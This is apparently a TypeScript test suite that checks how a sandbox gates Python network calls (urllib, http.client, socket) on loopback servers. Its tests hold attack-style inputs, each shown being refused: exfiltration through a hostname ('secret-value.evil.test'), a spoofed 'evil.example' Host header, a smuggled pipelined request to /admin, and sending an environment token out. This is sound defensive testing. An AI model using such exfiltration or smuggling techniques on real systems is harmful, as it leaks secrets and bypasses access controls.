/**
 * Ordinary Python network code (urllib, http.client, socket) on the gated
 * engine, against real loopback servers: granted, it works unchanged; refused,
 * it gets the exception its library expects for a refused connection, naming
 * the rule and the fix, and the server receives nothing; every attempt is in
 * the audit with host, port (and method and path for HTTP, the resolved address
 * for a name).
 */
import { readFileSync } from "node:fs";
import { createServer, type IncomingMessage, type Server } from "node:http";
import { createServer as createTlsServer } from "node:https";
import { createServer as createTcpServer, type AddressInfo, type Server as TcpServer } from "node:net";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { createNodeEngine } from "../../cli/src/node-engine.ts";
import { nodeHttpTransport } from "../../cli/src/node-http-transport.ts";
import type { Engine, RunRequest, Sandbox } from "../../wasm-runtime/index.ts";
import { parsePolicy, type NetworkRule, type SecretRule } from "../../wasm-runtime/policy/index.ts";
import { setHttpTransport } from "../../wasm-runtime/tools/index.ts";

const received: string[] = [];
const servers: (Server | TcpServer)[] = [];
let port = 0;
let otherPort = 0;
let tlsPort = 0;
let silentPort = 0;
const names = new Map<string, string[]>();
const lookups: string[] = [];
let engine: Engine;
let sandbox: Sandbox;

function listen<S extends Server | TcpServer>(server: S): Promise<number> {
  servers.push(server);
  return new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve((server.address() as AddressInfo).port)));
}

function handler(request: IncomingMessage, response: import("node:http").ServerResponse): void {
  let body = "";
  request.on("data", (chunk: Buffer) => (body += chunk.toString()));
  request.on("end", () => {
    const at = (request.socket.address() as AddressInfo).port;
    received.push(`${at} ${request.method} ${request.url}${body ? ` ${body}` : ""}`);
    const to = new URL(request.url!, "http://x").searchParams.get("to");
    if (to) response.writeHead(302, { location: to }).end("moved");
    else response.writeHead(200).end(`hello ${request.method} ${request.url}${body ? ` ${body}` : ""}`);
  });
}

beforeAll(async () => {
  port = await listen(createServer(handler));
  otherPort = await listen(createServer(handler));
  const dir = new URL("../fixtures/tls/", import.meta.url);
  tlsPort = await listen(createTlsServer({ key: readFileSync(new URL("loopback.key", dir)), cert: readFileSync(new URL("loopback.crt", dir)) }, handler));
  // Accepts and never answers: a read from it waits until the run's time limit.
  silentPort = await listen(createTcpServer(() => {}));
  engine = createNodeEngine("gated");
  // After the engine's own: this test's resolver (no DNS here); a second answer for a name points elsewhere.
  setHttpTransport(
    nodeHttpTransport(async (name) => {
      lookups.push(name);
      const addresses = names.get(name);
      if (!addresses) throw new Error(`getaddrinfo ENOTFOUND ${name}`);
      names.set(name, ["10.255.255.1"]);
      return addresses;
    }),
  );
  sandbox = await engine.createSandbox({ files: { "ca.pem": readFileSync(new URL("../fixtures/tls/loopback.crt", import.meta.url), "utf8") } });
});

afterAll(async () => {
  await sandbox.close();
  await engine.close();
  for (const server of servers) (server as TcpServer).close();
});

beforeEach(() => {
  received.length = 0;
  lookups.length = 0;
  names.clear();
});

const workspace = { path: "/workspace/**", access: "write" as const };

async function py(code: string, network: NetworkRule[], extra: Partial<RunRequest> & { secretRules?: SecretRule[] } = {}) {
  const { secretRules, ...request } = extra;
  const policy = parsePolicy({ version: 1, files: [workspace], network, ...(secretRules && { secrets: secretRules }) });
  const result = await sandbox.run({ program: { language: "python", code }, policy, timeoutMs: 20_000, ...request }).result;
  const network_ = (result.audit ?? []).filter((e) => e.capability === "network");
  return { ...result, network: network_ };
}

const loopback = (p: number, extra: Partial<NetworkRule> = {}): NetworkRule => ({ host: "127.0.0.1", port: p, ...extra });
const failure = (expression: string) => `try:\n    ${expression}\nexcept Exception as e:\n    print(type(e).__name__, getattr(e, "reason", e))\n`;

describe("urllib and http.client through the network rules", () => {
  it("a granted GET and POST succeed; the audit names host, port, method and path", async () => {
    const code = [
      "import urllib.request",
      `print(urllib.request.urlopen("http://127.0.0.1:${port}/a?q=1").read().decode())`,
      `print(urllib.request.urlopen(urllib.request.Request("http://127.0.0.1:${port}/b", data=b"payload", method="POST")).read().decode())`,
    ].join("\n");
    const result = await py(code, [loopback(port)]);
    expect(result.stderr).toBe("");
    expect(result.stdout).toBe("hello GET /a?q=1\nhello POST /b payload\n");
    expect(received).toEqual([`${port} GET /a?q=1`, `${port} POST /b payload`]);
    const resources = result.network.map((e) => `${e.decision} ${e.syscall} ${e.resource}`);
    expect(resources).toEqual([
      `allow socket:connect 127.0.0.1:${port}`,
      `allow socket:send 127.0.0.1:${port} GET/a?q=1`,
      `allow socket:connect 127.0.0.1:${port}`,
      `allow socket:send 127.0.0.1:${port} POST/b`,
    ]);
  });

  it("with the rule removed: URLError whose reason is PermissionError naming the rule and the fix; audited; nothing sent", async () => {
    const code = ["import urllib.request, socket", failure(`urllib.request.urlopen("http://127.0.0.1:${port}/")`), failure(`socket.create_connection(("127.0.0.1", ${port}))`)].join("\n");
    const result = await py(code, [loopback(otherPort)]);
    const lines = result.stdout.trim().split("\n");
    expect(lines).toHaveLength(2);
    expect(lines[0]).toMatch(/^URLError \[Errno \d+\] playpen: denied network 127\.0\.0\.1:\d+ by default \(not granted\); allow it with --allow-net=127\.0\.0\.1:\d+/);
    expect(lines[1]).toMatch(/^PermissionError \[Errno \d+\] playpen: denied network 127\.0\.0\.1:\d+ by default/);
    expect(received).toEqual([]);
    const denied = result.network.filter((e) => e.decision === "deny");
    expect(denied.length).toBeGreaterThanOrEqual(1);
    expect(denied[0]).toMatchObject({ resource: `127.0.0.1:${port}`, syscall: "socket:connect", fix: { flag: `--allow-net=127.0.0.1:${port}` } });
  });

  it("a refused port is ConnectionRefusedError, as without a sandbox", async () => {
    const closed = await listen(createTcpServer());
    (servers.at(-1) as TcpServer).close();
    const result = await py(["import socket", failure(`socket.create_connection(("127.0.0.1", ${closed}))`)].join("\n"), [loopback(closed)]);
    expect(result.stdout).toMatch(/^ConnectionRefusedError /);
  });

  it("names: decided on their text before any lookup, then on the address they resolve to, which the connection is pinned to", async () => {
    names.set("api.test", ["127.0.0.1"]);
    names.set("secret-value.evil.test", ["127.0.0.1"]);
    const code = [
      "import urllib.request",
      `print(urllib.request.urlopen("http://api.test:${port}/named").read().decode())`,
      failure(`urllib.request.urlopen("http://secret-value.evil.test:${port}/")`),
      // A second lookup of the same name now answers a private address: refused.
      failure(`urllib.request.urlopen("http://api.test:${port}/again")`),
    ].join("\n");
    const result = await py(code, [{ host: "api.test", port }, loopback(port)]);
    const lines = result.stdout.trim().split("\n");
    expect(lines[0]).toBe("hello GET /named");
    expect(lines[1]).toMatch(/^URLError .*denied network secret-value\.evil\.test:\d+ by default/);
    expect(lines[2]).toMatch(/^URLError .*10\.255\.255\.1 is private: not granted/);
    expect(lookups).toEqual(["api.test", "api.test"]);
    expect(received).toEqual([`${port} GET /named`]);
    expect(result.network.map((e) => `${e.decision} ${e.syscall} ${e.resource}`)).toContain(`allow socket:send api.test:${port} GET/named (127.0.0.1)`);
  });

  it("a name alone never grants a loopback address it resolves to", async () => {
    names.set("api.test", ["127.0.0.1"]);
    const result = await py(["import urllib.request", failure(`urllib.request.urlopen("http://api.test:${port}/")`)].join("\n"), [{ host: "api.test", port }]);
    expect(result.stdout).toMatch(/^URLError .*127\.0\.0\.1 is loopback: not granted/);
    expect(received).toEqual([]);
  });

  it("a redirect to a destination the rules refuse is not followed", async () => {
    const code = ["import urllib.request", failure(`urllib.request.urlopen("http://127.0.0.1:${port}/r?to=http://127.0.0.1:${otherPort}/there")`)].join("\n");
    const result = await py(code, [loopback(port)]);
    expect(result.stdout).toMatch(/^URLError .*denied network 127\.0\.0\.1:\d+/);
    expect(received).toEqual([`${port} GET /r?to=http://127.0.0.1:${otherPort}/there`]);
  });

  it("method and path rules decide every request on a connection, keep-alive and pipelined ones too", async () => {
    const rule = loopback(port, { methods: ["GET"], pathPrefix: "/api" });
    const code = [
      "import http.client, socket",
      `c = http.client.HTTPConnection("127.0.0.1", ${port})`,
      "c.request('GET', '/api/one'); print(c.getresponse().read().decode())",
      failure("c.request('POST', '/api/two', body=b'x'); c.getresponse()"),
      failure("c2 = http.client.HTTPConnection('127.0.0.1', " + port + "); c2.request('GET', '/api/../admin'); c2.getresponse()"),
      // Two requests in one send: the second is decided on its own before it leaves.
      `s = socket.create_connection(("127.0.0.1", ${port}))`,
      failure("s.sendall(b'GET /api/ok HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nContent-Length: 0\\r\\n\\r\\nGET /admin HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n')"),
      // A Host header naming another site than the one decided on.
      `s3 = socket.create_connection(("127.0.0.1", ${port}))`,
      failure("s3.sendall(b'GET /api/x HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')"),
    ].join("\n");
    const result = await py(code, [rule]);
    const lines = result.stdout.trim().split("\n");
    expect(lines[0]).toBe("hello GET /api/one");
    expect(lines[1]).toMatch(/^PermissionError .*denied network 127\.0\.0\.1:\d+ POST\/api\/two by default/);
    expect(lines[2]).toMatch(/^PermissionError .*denied network 127\.0\.0\.1:\d+ GET\/api\/\.\.\/admin/);
    expect(lines[3]).toMatch(/^PermissionError .*GET\/admin/);
    expect(lines[4]).toMatch(/^PermissionError .*names another host \(evil\.example\)/);
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(received).toEqual([`${port} GET /api/one`, `${port} GET /api/ok`]);
  });

  it("HTTPS: TLS done by the host, certificate checked against the CA the program gives; the request inside is still decided", async () => {
    const code = [
      "import urllib.request, ssl",
      "ctx = ssl.create_default_context(cafile='/workspace/ca.pem')",
      `print(urllib.request.urlopen("https://127.0.0.1:${tlsPort}/secure", context=ctx).read().decode())`,
      failure(`urllib.request.urlopen("https://127.0.0.1:${tlsPort}/secure")`),
    ].join("\n");
    const result = await py(code, [loopback(tlsPort, { methods: ["GET"] })]);
    const lines = result.stdout.trim().split("\n");
    expect(lines[0]).toBe("hello GET /secure");
    expect(lines[1]).toMatch(/^(SSLError|URLError) .*TLS with 127\.0\.0\.1 failed: self.signed certificate/i);
    expect(result.network.map((e) => e.resource)).toContain(`127.0.0.1:${tlsPort} GET/secure`);
  });

  it("a secret in what the program sends goes only where a rule binds it", async () => {
    const code = ["import os, urllib.request", failure(`urllib.request.urlopen(urllib.request.Request("http://127.0.0.1:${port}/up", data=os.environ["TOKEN"].encode()))`)].join("\n");
    const result = await py(code, [loopback(port)], { secrets: { TOKEN: "s3cr3t-token-value-123" }, secretRules: [{ name: "TOKEN" }] });
    expect(result.stdout).toMatch(/^URLError .*carries the secret TOKEN, which may not be sent to 127\.0\.0\.1/);
    expect(received).toEqual([]);
  });

  it("a read from a server that never answers ends with the run's time limit", async () => {
    const code = `import socket\ns = socket.create_connection(("127.0.0.1", ${silentPort}))\ns.recv(10)\n`;
    const result = await py(code, [loopback(silentPort)], { timeoutMs: 3000 });
    expect(result.reason).toBe("timeout");
  });

  it("a socket timeout is TimeoutError; listening is refused", async () => {
    const code = [
      "import socket",
      `s = socket.create_connection(("127.0.0.1", ${silentPort}), timeout=0.2)`,
      failure("s.recv(10)"),
      failure("socket.socket().bind(('127.0.0.1', 0))"),
    ].join("\n");
    const result = await py(code, [loopback(silentPort)]);
    const lines = result.stdout.trim().split("\n");
    expect(lines[0]).toMatch(/^TimeoutError /);
    expect(lines[1]).toMatch(/^OSError .*cannot accept connections/);
  });
});

